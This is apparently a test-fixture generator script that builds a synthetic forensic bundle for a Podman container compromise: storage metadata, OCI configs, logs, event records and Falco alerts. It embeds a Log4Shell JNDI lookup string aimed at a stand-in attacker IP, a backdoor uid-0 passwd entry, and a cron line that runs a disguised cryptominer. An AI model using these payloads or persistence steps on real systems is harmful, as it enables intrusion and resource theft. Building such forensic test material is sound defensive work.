#!/usr/bin/env python3
"""Writes the Podman host incident scenario bundle (bundle/ next to this script); README.md tells the story, the known
answers and each file's provenance. Deterministic: same bytes on every run. Run: python3 make_podman_scenario.py

Git keeps neither modification times nor empty directories: bundle/mtimes.tsv lists the times the overlay files had on
the disk image (PodmanHostScenarioIT sets them on its copy of the bundle before collecting it)."""
import calendar, hashlib, json, os, shutil, sys, time

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
shutil.rmtree(OUT, ignore_errors=True)
DAY = "2026-11-20"


def ts(hms, frac=0):  # RFC 3339 UTC with nanoseconds
    return "%sT%s.%09dZ" % (DAY, hms, frac)


def epoch(hms):
    return calendar.timegm(time.strptime(DAY + "T" + hms, "%Y-%m-%dT%H:%M:%S"))


def hexid(name, n=64):
    return hashlib.sha256(name.encode()).hexdigest()[:n]


# ------------------------------------------------------------------------------------------------------ entities
ACCT, REGION, VPC = "444444444444", "us-east-1", "vpc-0444bbbb0000a0001"
SUBNET_A, SUBNET_B = "subnet-0444bbbb0000c0001", "subnet-0444bbbb0000c0002"
# host A: RHEL 9.4, Podman 4.9.4; root runs orders-reports (quadlet), user "orders" (uid 1001) runs orders-api rootless
HOST_A, INSTANCE_A, ENI_A, IP_A = "ip-10-44-1-21.ec2.internal", "i-0a4411aa22bb33cc4", "eni-0a4411aa22bb30001", "10.44.1.21"
EIP_A = "192.0.2.121"  # host A's elastic IP: what STS sees of calls from the host (S3 goes through the gateway endpoint)
# host B: RHEL 9.4, Podman 4.9.4, root runs inventory-sync; same account, not involved
HOST_B, INSTANCE_B, ENI_B, IP_B = "ip-10-44-2-37.ec2.internal", "i-0b4422bb33cc44dd5", "eni-0b4422bb33cc40002", "10.44.2.37"
ATTACKER = "198.51.100.177"  # the exploit, its LDAP / HTTP servers, the reverse shell, the exfil upload
OUTSIDE = "203.0.113.200"  # where the stolen key is used from afterwards
POOL_IP, POOL_PORT = "192.0.2.66", 3333
S3_IP = "52.216.77.40"  # an S3 address in us-east-1 (through the gateway endpoint)

API = hexid("orders-api")  # rootless, compromised
REPORTS = hexid("orders-reports")  # rootful, same image, not compromised
SYNC = hexid("inventory-sync")  # host B
IMAGE = "registry.example.com/orders/api:2.7.0"
IMAGE_REPO = "registry.example.com/orders/api"
IMAGE_ID = hexid("image orders-api 2.7.0")  # the config digest: containers/storage's image id
IMAGE_DIGEST = "sha256:" + hexid("manifest orders-api 2.7.0")  # the manifest (repo) digest in the registry
SYNC_IMAGE = "registry.example.com/inventory/sync:1.3.0"
SYNC_IMAGE_ID = hexid("image inventory-sync 1.3.0")
# containers/storage layers: the image's two layers (a copy in each store) and each container's writable layer
BASE_LAYER = hexid("layer ubi9-openjdk-17 base")
APP_LAYER = hexid("layer orders-api app")
API_LAYER = hexid("layer container orders-api")
REPORTS_LAYER = hexid("layer container orders-reports")
SYNC_LAYER = hexid("layer container inventory-sync")
SYNC_BASE = hexid("layer inventory-sync base")
ROLE_A, ROLE_B = "orders-host-role", "inventory-host-role"
SESSION_A = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, ROLE_A, INSTANCE_A)
SESSION_B = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, ROLE_B, INSTANCE_B)
KEY_A, KEY_B = "ASIAPODMANSCENA00001", "ASIAPODMANSCENB00002"
CVE = "CVE-2021-44228"
JNDI = "${jndi:ldap://%s:1389/o}" % ATTACKER
# the dropped miner (XMRig renamed): 90 bytes of text behind an ELF magic
MINER = b"\x7fELF\x02\x01\x01\x00" + b"kthreadd xmrig-6.21.3 static build; donate-level 0; pool " + \
    ("%s:%d" % (POOL_IP, POOL_PORT)).encode() + b"\x00" * 4
MINER_SHA256 = hashlib.sha256(MINER).hexdigest()

mtimes = []  # (path in bundle, epoch seconds)


def write(rel, data, mtime=None, mode=0o644):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb" if isinstance(data, bytes) else "w") as f:
        f.write(data)
    os.chmod(path, mode)
    if mtime is not None:
        mtimes.append((rel, mtime))


def symlink(rel, target):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink(target, path)


def jl(records):
    return "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in records)


A = "hosts/%s/" % INSTANCE_A
B = "hosts/%s/" % INSTANCE_B
ROOT_STORE_A = A + "var/lib/containers/storage/"
USER_STORE_A = A + "home/orders/.local/share/containers/storage/"
ROOT_STORE_B = B + "var/lib/containers/storage/"

# ------------------------------------------------------------------------------- containers/storage: both stores
def storage_container(cid, name, image_id, image_name, layer, created):
    meta = json.dumps({"image-name": image_name, "image-id": image_id, "name": name, "created-at": epoch(created)},
                      separators=(",", ":"))
    return {"id": cid, "names": [name], "image": image_id, "layer": layer, "metadata": meta,
            "big-data-names": ["volatile-container.json"],
            "big-data-sizes": {"volatile-container.json": 6814},
            "big-data-digests": {"volatile-container.json": "sha256:" + hexid("volatile " + cid)},
            "created": ts(created, 118000000),
            "flags": {"MountLabel": "system_u:object_r:container_file_t:s0:c%d,c%d" % (100 + len(name), 400 + len(name)),
                      "ProcessLabel": "system_u:system_r:container_t:s0:c%d,c%d" % (100 + len(name), 400 + len(name))}}


def storage_image(image_id, names, digest, top_layer, created):
    # containers/storage images.json (overlay-images/images.json): id = config digest, digest = manifest digest
    return {"id": image_id, "digest": digest, "names": names, "names-history": names, "layer": top_layer,
            "metadata": "{}", "big-data-names": ["sha256:" + image_id, "manifest-" + digest, "manifest"],
            "big-data-sizes": {"sha256:" + image_id: 9214, "manifest-" + digest: 741, "manifest": 741},
            "big-data-digests": {"sha256:" + image_id: "sha256:" + image_id, "manifest-" + digest: digest,
                                 "manifest": digest},
            "created": ts(created, 0), "digests": [digest]}


def storage_layers(layers):
    # containers/storage layers.json (overlay-layers/layers.json): id, parent, created, compressed-diff-digest ...
    return json.dumps(layers, separators=(",", ":"))


def image_layers_on_disk(store, short_base, short_app, mtime):
    """The image's layers as the overlay driver keeps them: overlay/<layer>/diff, link, lower; overlay/l/<short>."""
    write(store + "overlay/%s/link" % BASE_LAYER, short_base)
    write(store + "overlay/%s/link" % APP_LAYER, short_app)
    write(store + "overlay/%s/lower" % APP_LAYER, "l/" + short_base)
    symlink(store + "overlay/l/" + short_base, "../%s/diff" % BASE_LAYER)
    symlink(store + "overlay/l/" + short_app, "../%s/diff" % APP_LAYER)
    write(store + "overlay/%s/diff/etc/passwd" % BASE_LAYER, PASSWD, mtime)
    write(store + "overlay/%s/diff/etc/hostname" % BASE_LAYER, "", mtime)
    write(store + "overlay/%s/diff/tmp/.keep" % BASE_LAYER, "", mtime)
    write(store + "overlay/%s/diff/opt/app/orders-api.jar" % APP_LAYER, b"PK\x03\x04orders-api 2.7.0 (BOOT-INF/lib/log4j-core-2.14.1.jar)", mtime)


PASSWD = "".join(l + "\n" for l in [
    "root:x:0:0:root:/root:/bin/bash", "bin:x:1:1:bin:/bin:/sbin/nologin", "daemon:x:2:2:daemon:/sbin:/sbin/nologin",
    "nobody:x:65534:65534:Kernel Overflow User:/:/sbin/nologin", "jboss:x:185:0:JBoss user:/home/jboss:/sbin/nologin"])
IMAGE_BUILT = epoch("03:12:00") - 86400 * 9

write(USER_STORE_A + "overlay-containers/containers.json", json.dumps([
    storage_container(API, "orders-api", IMAGE_ID, IMAGE, API_LAYER, "06:01:00")], separators=(",", ":")))
write(ROOT_STORE_A + "overlay-containers/containers.json", json.dumps([
    storage_container(REPORTS, "orders-reports", IMAGE_ID, IMAGE, REPORTS_LAYER, "06:00:11")], separators=(",", ":")))
write(ROOT_STORE_B + "overlay-containers/containers.json", json.dumps([
    storage_container(SYNC, "inventory-sync", SYNC_IMAGE_ID, SYNC_IMAGE, SYNC_LAYER, "06:05:00")], separators=(",", ":")))
for store in (USER_STORE_A, ROOT_STORE_A):
    write(store + "overlay-images/images.json", json.dumps([
        storage_image(IMAGE_ID, [IMAGE], IMAGE_DIGEST, APP_LAYER, "05:58:40")], separators=(",", ":")))
write(ROOT_STORE_B + "overlay-images/images.json", json.dumps([
    storage_image(SYNC_IMAGE_ID, [SYNC_IMAGE], "sha256:" + hexid("manifest inventory-sync 1.3.0"), SYNC_BASE, "06:04:10")],
    separators=(",", ":")))

image_layers_on_disk(USER_STORE_A, "QX7TZ2ULNB3Y4KD6OVPE5RMAFC", "H2K5WJ3NQ6TXZ4B7YDU2VL5EOR", IMAGE_BUILT)
image_layers_on_disk(ROOT_STORE_A, "F4UDN3RV5ZQ2K6TBHX7WLYEJ3M", "P6ZMK2QC4VH5XT3NJB7RDU4WLE", IMAGE_BUILT)
# each container's writable layer: link, lower (the image's layers, top first), diff/
for store, layer, short, lowers in ((USER_STORE_A, API_LAYER, "T2VKD5QWZ7MXJ3N4RB6YHL2CUE",
                                     "l/H2K5WJ3NQ6TXZ4B7YDU2VL5EOR:l/QX7TZ2ULNB3Y4KD6OVPE5RMAFC"),
                                    (ROOT_STORE_A, REPORTS_LAYER, "N5BX3KQ7WZ2VT4DJ6RHM3YLE5C",
                                     "l/P6ZMK2QC4VH5XT3NJB7RDU4WLE:l/F4UDN3RV5ZQ2K6TBHX7WLYEJ3M")):
    write(store + "overlay/%s/link" % layer, short)
    write(store + "overlay/%s/lower" % layer, lowers)
    symlink(store + "overlay/l/" + short, "../%s/diff" % layer)
    write(store + "overlay-layers/layers.json", storage_layers([
        {"id": BASE_LAYER, "created": ts("05:58:39", 0), "compressed-diff-digest": "sha256:" + hexid("gz base"),
         "compressed-size": 143881210, "diff-digest": "sha256:" + hexid("diff base"), "diff-size": 398112768,
         "compression": 2, "uidset": [0, 185], "gidset": [0]},
        {"id": APP_LAYER, "parent": BASE_LAYER, "created": ts("05:58:40", 0),
         "compressed-diff-digest": "sha256:" + hexid("gz app"), "compressed-size": 41230876,
         "diff-digest": "sha256:" + hexid("diff app"), "diff-size": 47718400, "compression": 2, "uidset": [0],
         "gidset": [0]},
        {"id": layer, "parent": APP_LAYER, "created": ts("06:01:00" if store == USER_STORE_A else "06:00:11", 0),
         "flags": {"MountLabel": "system_u:object_r:container_file_t:s0:c110,c410"}}]))

# orders-api (rootless, compromised): /etc/passwd copied up with a uid-0 user added, a cron file, the miner and its
# config in /tmp/.cache; the image has no /etc/cron.d
write(USER_STORE_A + "overlay/%s/diff/etc/passwd" % API_LAYER, PASSWD + "sysupd:x:0:0::/root:/bin/bash\n",
      epoch("09:15:52"))
write(USER_STORE_A + "overlay/%s/diff/etc/cron.d/kthreadd" % API_LAYER,
      "*/10 * * * * root /tmp/.cache/kthreadd -c /tmp/.cache/config.json >/dev/null 2>&1\n", epoch("09:16:25"))
write(USER_STORE_A + "overlay/%s/diff/tmp/.cache/kthreadd" % API_LAYER, MINER, epoch("09:16:14"), 0o755)
write(USER_STORE_A + "overlay/%s/diff/tmp/.cache/config.json" % API_LAYER,
      json.dumps({"autosave": True, "cpu": {"max-threads-hint": 75},
                  "pools": [{"url": "%s:%d" % (POOL_IP, POOL_PORT), "user": "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge", "keepalive": True}]},
                 indent=2) + "\n", epoch("09:16:14"))
# orders-reports (rootful, same image): the reports it writes
write(ROOT_STORE_A + "overlay/%s/diff/tmp/reports/orders-2026-11-20T0900.csv" % REPORTS_LAYER,
      "order_id,total\n88120,41.90\n88121,12.00\n", epoch("09:00:03"))
# host B's container: its own image, its own writable layer
write(ROOT_STORE_B + "overlay/%s/diff/var/cache/inventory/last-sync" % SYNC_LAYER, "2026-11-20T09:30:00Z\n",
      epoch("09:30:00"))

# ---------------------------------------------------------------------------------- OCI runtime spec config.json
def oci_config(cid, layer, store_path, args, rootless, name):
    caps = ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL", "CAP_NET_BIND_SERVICE",
            "CAP_SETFCAP", "CAP_SETGID", "CAP_SETPCAP", "CAP_SETUID", "CAP_SYS_CHROOT"]
    userdata = "%soverlay-containers/%s/userdata" % (store_path, cid)
    spec = {
        "ociVersion": "1.1.0+dev",
        "process": {"user": {"uid": 0, "gid": 0, "umask": 18, "additionalGids": [0]}, "args": args,
                    "env": ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                            "JAVA_HOME=/usr/lib/jvm/jre-17", "container=oci", "HOSTNAME=" + name, "HOME=/root"],
                    "cwd": "/opt/app", "capabilities": {k: caps for k in ("bounding", "effective", "permitted")},
                    "rlimits": [{"type": "RLIMIT_NOFILE", "hard": 524288, "soft": 524288},
                                {"type": "RLIMIT_NPROC", "hard": 62713, "soft": 62713}],
                    "oomScoreAdj": 0, "selinuxLabel": "system_u:system_r:container_t:s0:c110,c410"},
        "root": {"path": "%soverlay/%s/merged" % (store_path, layer)},
        "hostname": name,
        "mounts": [{"destination": "/proc", "type": "proc", "source": "proc", "options": ["nosuid", "noexec", "nodev"]},
                   {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
                   {"destination": "/sys", "type": "sysfs", "source": "sysfs", "options": ["nosuid", "noexec", "nodev", "ro"]},
                   {"destination": "/etc/hosts", "type": "bind", "source": userdata + "/hosts", "options": ["bind", "rprivate"]},
                   {"destination": "/etc/resolv.conf", "type": "bind", "source": userdata + "/resolv.conf", "options": ["bind", "rprivate"]},
                   {"destination": "/run/.containerenv", "type": "bind", "source": userdata + "/.containerenv", "options": ["bind", "rprivate"]}],
        "annotations": {"io.container.manager": "libpod", "io.podman.annotations.autoremove": "FALSE",
                        "io.podman.annotations.init": "FALSE", "io.podman.annotations.privileged": "FALSE",
                        "io.podman.annotations.publish-all": "FALSE", "org.opencontainers.image.stopSignal": "15",
                        "org.systemd.property.KillSignal": "15", "org.systemd.property.TimeoutStopUSec": "uint64 10000000"},
        "linux": {"sysctl": {"net.ipv4.ping_group_range": "0 0"},
                  "resources": {"pids": {"limit": 2048}},
                  "cgroupsPath": ("user.slice:libpod:%s" if rootless else "machine.slice:libpod:%s") % cid,
                  "namespaces": [{"type": "pid"}, {"type": "network", "path": ("/run/user/1001/netns/netns-" if rootless else "/run/netns/netns-") + hexid("netns " + cid, 8) + "-" + hexid("n2 " + cid, 4)},
                                 {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}, {"type": "cgroup"}] + ([{"type": "user"}] if rootless else []),
                  "seccomp": {"defaultAction": "SCMP_ACT_ERRNO", "defaultErrnoRet": 38, "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
                              "syscalls": [{"names": ["bdflush", "io_pgetevents", "kexec_file_load", "kexec_load"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1}]},
                  "maskedPaths": ["/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list", "/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware", "/sys/fs/selinux", "/sys/dev/block"],
                  "readonlyPaths": ["/proc/asound", "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"],
                  "mountLabel": "system_u:object_r:container_file_t:s0:c110,c410"}}
    if rootless:
        spec["linux"]["uidMappings"] = [{"containerID": 0, "hostID": 1001, "size": 1}, {"containerID": 1, "hostID": 100000, "size": 65536}]
        spec["linux"]["gidMappings"] = [{"containerID": 0, "hostID": 1001, "size": 1}, {"containerID": 1, "hostID": 100000, "size": 65536}]
    return json.dumps(spec, indent=4)


java = ["java", "-XX:MaxRAMPercentage=75", "-jar", "/opt/app/orders-api.jar"]
# libpod writes config.json when it initialises the container (saveSpec in init): its mtime is the init event's time
write(USER_STORE_A + "overlay-containers/%s/userdata/config.json" % API,
      oci_config(API, API_LAYER, "/home/orders/.local/share/containers/storage/", java, True, "orders-api"),
      epoch("06:01:01"))
write(ROOT_STORE_A + "overlay-containers/%s/userdata/config.json" % REPORTS,
      oci_config(REPORTS, REPORTS_LAYER, "/var/lib/containers/storage/", java + ["--spring.profiles.active=reports"], False, "orders-reports"),
      epoch("06:00:11"))
write(ROOT_STORE_B + "overlay-containers/%s/userdata/config.json" % SYNC,
      oci_config(SYNC, SYNC_LAYER, "/var/lib/containers/storage/", ["/usr/local/bin/inventory-sync", "--interval", "15m"], False, "inventory-sync"),
      epoch("06:05:00"))

# ------------------------------------------------------------------------------------ conmon k8s-file ctr.log
def ctr(hms, ns):
    return ts(hms, ns).replace("Z", "+00:00")


def kline(hms, ns, text, stream="stdout", tag="F"):
    return "%s %s %s %s\n" % (ctr(hms, ns), stream, tag, text)


def boot(name, profile, t):
    return [kline(t, 310440102, ""),
            kline(t, 310502311, "  .   ____          _            __ _ _"),
            kline(t, 310511720, " :: Spring Boot ::                (v3.1.5)"),
            kline(t, 911201733, "%sT%s.911Z  INFO 1 --- [           main] c.e.orders.OrdersApiApplication          : The following 1 profile is active: \"%s\"" % (DAY, t, profile)),
            kline(t, 988100421, "%sT%s.988Z  INFO 1 --- [           main] o.s.b.w.embedded.tomcat.TomcatWebServer  : Tomcat started on port(s): 8080 (http) with context path ''" % (DAY, t))]


def access(hms, ns, client, req, status, size, ua, referer="-"):
    # Tomcat's AccessLogValve with pattern "combined", written to stdout (server.tomcat.accesslog.directory=/dev,
    # prefix=stdout, suffix=, file-date-format=)
    day = time.strftime("%d/%b/%Y", time.strptime(DAY, "%Y-%m-%d"))
    return kline(hms, ns, '%s - - [%s:%s +0000] "%s" %d %s "%s" "%s"' % (client, day, hms, req, status, size, referer, ua))


api_log = boot("orders-api", "default", "06:01:03") + [
    access("08:30:12", 401221004, "10.44.0.12", "GET /api/orders/88110 HTTP/1.1", 200, 1893, "ELB-HealthChecker/2.0"),
    access("09:12:40", 111300520, "198.51.100.14", "GET /api/orders/search?q=blue+mug HTTP/1.1", 200, 4410, "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
    access("09:13:58", 220015634, ATTACKER, "GET /api/orders/search?q=test HTTP/1.1", 200, 88, "Mozilla/5.0 zgrab/0.x"),
    kline("09:14:02", 118903112, "%sT09:14:02.118Z  WARN 1 --- [nio-8080-exec-7] c.e.orders.web.SearchController          : search took 2104 ms for client agent com.sun.jndi.ldap.LdapCtx@5a1c0b8e" % DAY),
    access("09:14:02", 120334101, ATTACKER, "GET /api/orders/search?q=test HTTP/1.1", 200, 88, JNDI),
    access("09:40:02", 500114003, "10.44.0.12", "GET /api/orders/88131 HTTP/1.1", 200, 1902, "ELB-HealthChecker/2.0"),
]
write(USER_STORE_A + "overlay-containers/%s/userdata/ctr.log" % API, "".join(api_log))
reports_log = boot("orders-reports", "reports", "06:00:14") + [
    kline("09:00:01", 202310442, "%sT09:00:01.202Z  INFO 1 --- [   scheduling-1] c.e.orders.reports.DailyExport           : export orders-2026-11-20T0900.csv: 2 orders, uploading to s3://orders-exports-444444444444/exports/" % DAY),
    kline("09:00:03", 771002311, "%sT09:00:03.771Z  INFO 1 --- [   scheduling-1] c.e.orders.reports.DailyExport           : export done" % DAY),
]
write(ROOT_STORE_A + "overlay-containers/%s/userdata/ctr.log" % REPORTS, "".join(reports_log))
write(ROOT_STORE_B + "overlay-containers/%s/userdata/ctr.log" % SYNC, "".join([
    kline("06:05:02", 1003114, "inventory-sync 1.3.0: syncing every 15m from s3://inventory-feed-444444444444/"),
    kline("09:30:00", 4112099, "sync done: 412 items, 3 changed"),
]))

# ------------------------------------------------------------------------------------------- podman events
# the rootless user's events: events_logger = "file" in ~/.config/containers/containers.conf; libpod's events file
# $XDG_RUNTIME_DIR/libpod/tmp/events/events.log (a tmpfs: the responder's live-response script copied it before the
# instance was imaged). libpod/events Event JSON: ID, Image, Name, Status, Time, Type, Attributes (the image's labels,
# and for health_status HealthStatus)
LABELS = {"io.buildah.version": "1.33.7", "org.opencontainers.image.revision": "4f2a9c1",
          "org.opencontainers.image.source": "https://git.example.com/orders/api", "maintainer": "orders-team"}


def pev(hms, ns, status, extra=None, attrs=True):
    e = {"ID": API, "Image": IMAGE, "Name": "orders-api", "Status": status, "Time": ctr(hms, ns), "Type": "container"}
    if attrs:
        e["Attributes"] = dict(LABELS, image=IMAGE, name="orders-api")
    if extra:
        e.update(extra)
    return e


write(A + "live-response/run/user/1001/libpod/tmp/events/events.log", jl([
    {"ID": IMAGE_ID, "Name": IMAGE, "Status": "pull", "Time": ctr("05:58:40", 882001233), "Type": "image"},
    pev("06:01:00", 118220331, "create"),
    pev("06:01:01", 402110223, "init"),
    pev("06:01:01", 702441003, "start"),
    pev("06:01:31", 13330771, "health_status", {"HealthStatus": "healthy"}),
    pev("09:20:01", 55102331, "health_status", {"HealthStatus": "healthy"}),
]))


# root's events: the journald events backend (the default), in the system journal; the responder exported the image's
# journal with `journalctl -D <image>/var/log/journal -o json --since "2026-11-20 05:55" --until "2026-11-20 10:30"`:
# every program, not only podman
_cursor = [0]


def journal(t_us, msg, unit, ident, comm, pid, host, uid="0", extra=None):
    _cursor[0] += 1
    e = {"__CURSOR": "s=9a1f3c0d5e6b4a7c8d9e0f1a2b3c4d5e;i=%x;b=4c2b7e1f0a9d8c7b6a5f4e3d2c1b0a99;m=%x;t=%x;x=%x" % (
             0x2a00 + _cursor[0], 1000000 + _cursor[0], t_us, 0xabc000 + _cursor[0]),
         "__REALTIME_TIMESTAMP": str(t_us), "__MONOTONIC_TIMESTAMP": str(1000000 + _cursor[0] * 1000),
         "_BOOT_ID": "4c2b7e1f0a9d8c7b6a5f4e3d2c1b0a99", "_MACHINE_ID": "7e3a1c9b5d2f4e6a8c0b1d3f5a7c9e2b",
         "_HOSTNAME": host, "PRIORITY": "6", "_TRANSPORT": "journal" if ident in ("podman",) else "stdout",
         "SYSLOG_FACILITY": "3", "_UID": uid, "_GID": uid, "_COMM": comm, "_EXE": "/usr/bin/" + comm,
         "_PID": pid, "_SYSTEMD_UNIT": unit, "SYSLOG_IDENTIFIER": ident, "MESSAGE": msg}
    if extra:
        e.update(extra)
    return e


def us(hms, ns=0):
    return epoch(hms) * 1000000 + ns // 1000


def podman_j(hms, ns, status, cid, name, image, unit, cmdline, host, pid):
    labels = dict(LABELS, PODMAN_SYSTEMD_UNIT=unit)
    go_time = "%s %s.%09d +0000 UTC" % (DAY, hms, ns)
    msg = "%s container %s %s (image=%s, name=%s, %s)" % (go_time, status, cid, image, name,
                                                          ", ".join("%s=%s" % kv for kv in sorted(labels.items())))
    return journal(us(hms, ns), msg, unit, "podman", "podman", pid, host, extra={
        "PODMAN_EVENT": status, "PODMAN_TYPE": "container", "PODMAN_TIME": ts(hms, ns), "PODMAN_ID": cid,
        "PODMAN_NAME": name, "PODMAN_IMAGE": image, "PODMAN_LABELS": json.dumps(labels, separators=(",", ":")),
        "_CMDLINE": cmdline, "CODE_FILE": "/builddir/build/BUILD/podman-4.9.4/libpod/events/journal_linux.go",
        "CODE_FUNC": "github.com/containers/podman/v4/libpod/events.EventJournalD.Write", "CODE_LINE": "108"})


QUADLET = ("/usr/bin/podman run --name=orders-reports --cidfile=/run/orders-reports.cid --replace --rm --cgroups=split "
           "--sdnotify=conmon -d --log-driver k8s-file -p 8081:8080 %s --spring.profiles.active=reports" % IMAGE)
host_a_journal = [
    journal(us("05:55:02", 4000), "Started Session 3 of User ec2-user.", "systemd-logind.service", "systemd", "systemd", "1", HOST_A),
    journal(us("05:58:40", 882000), "image pull %s %s" % (IMAGE_ID, IMAGE), "session-3.scope", "podman", "podman", "2112", HOST_A,
            extra={"PODMAN_EVENT": "pull", "PODMAN_TYPE": "image", "PODMAN_TIME": ts("05:58:40", 881441002),
                   "PODMAN_ID": IMAGE_ID, "PODMAN_NAME": IMAGE, "_CMDLINE": "podman pull " + IMAGE}),
    podman_j("06:00:11", 118000331, "create", REPORTS, "orders-reports", IMAGE, "orders-reports.service", QUADLET, HOST_A, "2201"),
    podman_j("06:00:11", 402000001, "init", REPORTS, "orders-reports", IMAGE, "orders-reports.service", QUADLET, HOST_A, "2201"),
    podman_j("06:00:12", 10553002, "start", REPORTS, "orders-reports", IMAGE, "orders-reports.service", QUADLET, HOST_A, "2201"),
    journal(us("06:00:12", 30000), "Started orders-reports.service - Orders daily reports.", "init.scope", "systemd", "systemd", "1", HOST_A),
    journal(us("06:01:01", 700000), "Started libpod-%s.scope - libcrun container." % API[:64], "user@1001.service", "systemd", "systemd", "1880", HOST_A, uid="1001"),
    journal(us("09:00:00", 5000), "(root) CMD (run-parts /etc/cron.hourly)", "crond.service", "CROND", "crond", "3301", HOST_A),
    journal(us("09:31:07", 22000), "Accepted publickey for ec2-user from 10.44.0.5 port 50122 ssh2: ED25519 SHA256:Zk3x", "sshd.service", "sshd", "sshd", "4410", HOST_A),
]
write(A + "responder/journal-export.json", jl(host_a_journal))

# host B (RHEL 9.5, Podman 5.2): the responder ran `podman events --since "2026-11-20 05:00" --until
# "2026-11-20 10:30" --format json > responder/events-root.json` as root before imaging. Podman 5's JSON output
# (containers/podman#21784) has Docker's epoch "time" and "timeNano" instead of libpod's RFC 3339 "Time"
def p5(hms, ns, status):
    return {"ID": SYNC, "Image": SYNC_IMAGE, "Name": "inventory-sync", "Status": status, "time": epoch(hms),
            "timeNano": epoch(hms) * 1000000000 + ns, "Type": "container",
            "Attributes": {"image": SYNC_IMAGE, "name": "inventory-sync", "PODMAN_SYSTEMD_UNIT": "inventory-sync.service"}}


write(B + "responder/events-root.json", jl([p5("06:05:00", 118000331, "create"), p5("06:05:01", 4000001, "start")]))

# ------------------------------------------------------------------------------- libpod's state databases
# Podman's own record of its containers, as each store keeps it (ingest's fixtures/libpod-state/libpod_state.py writes
# them with the real engines: SQLite with libpod's schema, the bbolt library with libpod's buckets). Host A's Podman
# 4.9 keeps BoltDB (libpod/bolt_state.db in each store's graph root: root's and user orders'); host B's Podman 5.2 (a
# new install) keeps SQLite (db.sql in the graph root). The databases name what no other file here does together:
# each container's published ports (orders-api -p 8080:8080 through rootlessport, orders-reports -p 8081:8080), its
# network mode, when it started and its process.
sys.path.insert(0, os.path.normpath(os.path.join(HERE, "../../../../../../ingest/src/test/resources/fixtures/libpod-state")))
import libpod_state as lp  # noqa: E402


def libpod_container(cid, name, image_id, image_name, layer, graph, run, args, created, started, pid, conmon, *,
                     ports=(), mode="bridge", ip=None, uid=None, lock=0, create=None, labels=None):
    cfg = lp.container_config(cid, name, image_id, image_name, created, graph, run, args, ports=ports, net_mode=mode,
                              rootless_uid=uid, lock_id=lock, create_command=create, labels=labels)
    cfg["spec"] = json.loads(oci_config(cid, layer, graph + "/", args, uid is not None, name))
    st = lp.container_state(cid, 3, graph, run, layer, started=started, pid=pid, conmon_pid=conmon, ip=ip,
                            mac="5e:2d:0a:58:00:%02x" % (lock + 2))
    return cfg, st


os.makedirs(os.path.join(OUT, USER_STORE_A, "libpod"), exist_ok=True)
os.makedirs(os.path.join(OUT, ROOT_STORE_A, "libpod"), exist_ok=True)
lp.write_bolt(os.path.join(OUT, USER_STORE_A, "libpod/bolt_state.db"), "/home/orders/.local/share/containers/storage",
              "/run/user/1001/containers", "/home/orders/.local/share/containers/storage/libpod", [
    libpod_container(API, "orders-api", IMAGE_ID, IMAGE, API_LAYER, "/home/orders/.local/share/containers/storage",
                     "/run/user/1001/containers", java, ts("06:01:00", 118220331), ts("06:01:01", 702441003), 2231,
                     2219, ports=[lp.port(8080, 8080)], mode="slirp4netns", uid=1001, labels=LABELS,
                     create=["podman", "run", "-d", "--name", "orders-api", "-p", "8080:8080", "--health-cmd",
                             "curl -fs http://localhost:8080/actuator/health", IMAGE])])
lp.write_bolt(os.path.join(OUT, ROOT_STORE_A, "libpod/bolt_state.db"), "/var/lib/containers/storage",
              "/run/containers/storage", "/var/lib/containers/storage/libpod", [
    libpod_container(REPORTS, "orders-reports", IMAGE_ID, IMAGE, REPORTS_LAYER, "/var/lib/containers/storage",
                     "/run/containers/storage", java + ["--spring.profiles.active=reports"], ts("06:00:11", 118000331),
                     ts("06:00:12", 10553002), 2240, 2236, ports=[lp.port(8081, 8080)], ip="10.88.0.2", labels=dict(
                         LABELS, PODMAN_SYSTEMD_UNIT="orders-reports.service"), create=QUADLET.split(" "))])
lp.write_sqlite(os.path.join(OUT, ROOT_STORE_B, "db.sql"), "/var/lib/containers/storage", "/run/containers/storage",
                "/var/lib/containers/storage/libpod", [
    libpod_container(SYNC, "inventory-sync", SYNC_IMAGE_ID, SYNC_IMAGE, SYNC_LAYER, "/var/lib/containers/storage",
                     "/run/containers/storage", ["/usr/local/bin/inventory-sync", "--interval", "15m"],
                     ts("06:05:00", 118000331), ts("06:05:01", 4000001), 1874, 1870, ip="10.88.0.2",
                     labels={"PODMAN_SYSTEMD_UNIT": "inventory-sync.service"})])


# --------------------------------------------------------------------------------------------- Falco (host A)
# Falco 0.38 (modern_ebpf, json_output: true), no container plugin socket for the rootless user: container.id only
def falco(hms, ns, rule, priority, output, fields, tags):
    return {"hostname": HOST_A, "output": "%s.%09d: %s %s" % (hms, ns, priority, output),
            "output_fields": dict({"container.id": API[:12], "container.name": None, "container.image.repository": None,
                                   "evt.time": epoch(hms) * 1000000000 + ns}, **fields),
            "priority": priority, "rule": rule, "source": "syscall", "tags": tags,
            "time": ts(hms, ns)}


falco_alerts = [
    falco("09:14:05", 311002118, "Redirect STDOUT/STDIN to Network Connection in Container", "Notice",
